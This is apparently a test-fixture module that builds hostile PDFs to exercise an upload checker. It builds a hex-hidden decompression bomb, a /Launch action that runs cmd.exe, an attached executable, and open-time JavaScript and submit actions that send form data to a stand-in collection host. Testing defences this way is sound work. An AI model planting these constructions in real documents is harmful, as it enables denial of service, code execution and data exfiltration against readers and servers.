import { createHash } from 'node:crypto';
import { createDeflate } from 'node:zlib';
import { PDFArray, PDFDocument, PDFHexString, PDFName, PDFRawStream, PDFString, type PDFDict } from 'pdf-lib';

/**
 * Hostile PDFs, built for real in tests: what a probe would send, not a stand-in. Each starts
 * from a genuine form so that only the hostile part can be the reason for a refusal.
 */

/**
 * A page whose content stream is `megabytes` of spaces squeezed ~1000:1 by Flate, then a line of
 * text. `hidden`: written in hex first (a filter chain, ASCIIHex then Flate), which only pdf.js's
 * own decoding measures.
 */
export async function flateBombPdf(base: Uint8Array, decodedMegabytes: number, options: { hidden?: boolean } = {}): Promise<Uint8Array> {
  const doc = await PDFDocument.load(base);
  const spaces = Buffer.alloc(1024 * 1024, 0x20);
  // One deflate run of the whole thing, built chunk by chunk so the test never holds the gigabytes.
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => parts.push(chunk));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  for (let i = 0; i < decodedMegabytes; i += 1) {
    if (!deflate.write(spaces)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end(Buffer.from('BT /F1 12 Tf 72 720 Td (Bomb) Tj ET\n'));
  await done;
  const once = Buffer.concat(parts);
  const body = options.hidden ? Buffer.from(`${once.toString('hex')}>`) : once;
  const filter = options.hidden ? ['ASCIIHexDecode', 'FlateDecode'] : 'FlateDecode';
  const stream = PDFRawStream.of(doc.context.obj({ Filter: filter, Length: body.length }) as PDFDict, body);
  doc.getPage(0).node.set(PDFName.of('Contents'), doc.context.register(stream));
  return doc.save({ useObjectStreams: false });
}

/** A link on the first page whose action launches a program, as `/Launch` does in Acrobat. */
export async function launchActionPdf(base: Uint8Array, options: { objectStreams?: boolean } = {}): Promise<Uint8Array> {
  const doc = await PDFDocument.load(base);
  const action = doc.context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('cmd.exe'), Win: { F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc') } }) as PDFDict;
  addLink(doc, action);
  return doc.save({ useObjectStreams: options.objectStreams ?? false });
}

/** A link to a web address, and a button that sends the form's fields somewhere: findings, not refusals. */
export async function uriAndSubmitPdf(base: Uint8Array): Promise<Uint8Array> {
  const doc = await PDFDocument.load(base);
  addLink(doc, doc.context.obj({ S: 'URI', URI: PDFString.of('https://collect.example.net/form') }) as PDFDict);
  addLink(doc, doc.context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://collect.example.net/submit') }, Flags: 4 }) as PDFDict);
  return doc.save({ useObjectStreams: true });
}

function addLink(doc: PDFDocument, action: PDFDict): void {
  const annot = doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 72, 200, 100], Border: [0, 0, 0], A: action });
  const page = doc.getPage(0).node;
  const annots = page.lookupMaybe(PDFName.of('Annots'), PDFArray) ?? doc.context.obj([]);
  annots.push(doc.context.register(annot));
  page.set(PDFName.of('Annots'), annots);
}

/** A Windows program (an "MZ" header is enough for a viewer to offer to run it) attached to the form. */
export async function embeddedFilePdf(base: Uint8Array, fileName: string, content?: Uint8Array): Promise<Uint8Array> {
  const doc = await PDFDocument.load(base);
  const bytes = content ?? new Uint8Array([0x4d, 0x5a, 0x90, 0x00, ...new TextEncoder().encode('This program cannot be run in DOS mode.')]);
  await doc.attach(bytes, fileName, { mimeType: fileName.endsWith('.exe') ? 'application/x-msdownload' : 'text/plain' });
  return doc.save({ useObjectStreams: true });
}

const PAD = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
/** RC4 by hand: OpenSSL 3 keeps it in the legacy provider, which Node does not load. */
function rc4(key: Buffer, data: Buffer): Buffer {
  const s = Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i += 1) {
    j = (j + s[i]! + key[i % key.length]!) & 0xff;
    [s[i], s[j]] = [s[j]!, s[i]!];
  }
  const out = Buffer.alloc(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n += 1) {
    i = (i + 1) & 0xff;
    j = (j + s[i]!) & 0xff;
    [s[i], s[j]] = [s[j]!, s[i]!];
    out[n] = data[n]! ^ s[(s[i]! + s[j]!) & 0xff]!;
  }
  return out;
}

/**
 * Encrypted with an owner password only (RC4 40-bit, revision 2): any reader opens it without a
 * password, as "protected against editing" files do. Objects are encrypted for real.
 */
export async function ownerPasswordPdf(base: Uint8Array): Promise<Uint8Array> {
  const doc = await PDFDocument.load(base);
  const id = Buffer.from('ab'.repeat(16), 'hex');
  const P = -3904; // printing allowed, changes not
  const ownerKey = createHash('md5').update(Buffer.concat([Buffer.from('owner-secret'), PAD]).subarray(0, 32)).digest().subarray(0, 5);
  const O = rc4(ownerKey, PAD);
  const p = Buffer.alloc(4);
  p.writeInt32LE(P);
  const fileKey = createHash('md5').update(PAD).update(O).update(p).update(id).digest().subarray(0, 5);
  const U = rc4(fileKey, PAD);
  encryptStreams(doc, fileKey);
  const encrypt = doc.context.obj({ Filter: 'Standard', V: 1, R: 2, Length: 40, P, O: PDFHexString.of(O.toString('hex')), U: PDFHexString.of(U.toString('hex')) });
  doc.context.trailerInfo.Encrypt = doc.context.register(encrypt);
  doc.context.trailerInfo.ID = doc.context.obj([PDFHexString.of(id.toString('hex')), PDFHexString.of(id.toString('hex'))]);
  return doc.save({ useObjectStreams: false });
}

/** Streams are what a reader decrypts to show text; strings are left as they are (a reader tolerates that). */
function encryptStreams(doc: PDFDocument, fileKey: Buffer): void {
  for (const [ref, object] of doc.context.enumerateIndirectObjects()) {
    if (!(object instanceof PDFRawStream)) continue;
    const salt = Buffer.from([ref.objectNumber & 0xff, (ref.objectNumber >> 8) & 0xff, (ref.objectNumber >> 16) & 0xff, ref.generationNumber & 0xff, (ref.generationNumber >> 8) & 0xff]);
    const key = createHash('md5').update(fileKey).update(salt).digest().subarray(0, 10);
    doc.context.assign(ref, PDFRawStream.of(object.dict, rc4(key, Buffer.from(object.contents))));
  }
}

/** JavaScript that runs when the file opens (`/OpenAction`) and from a link, as Acrobat would run it. */
export async function javaScriptPdf(base: Uint8Array): Promise<Uint8Array> {
  const doc = await PDFDocument.load(base);
  const script = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("hello"); this.submitForm("https://collect.example.net/");') }) as PDFDict;
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(script));
  addLink(doc, doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.launchURL("https://collect.example.net/");') }) as PDFDict);
  return doc.save({ useObjectStreams: false });
}

/** `pages` blank pages: a "form" far over any page limit, cheap to build and to send. */
export async function manyPagesPdf(pages: number): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  for (let i = 0; i < pages; i += 1) doc.addPage([200, 200]);
  return doc.save({ useObjectStreams: true });
}
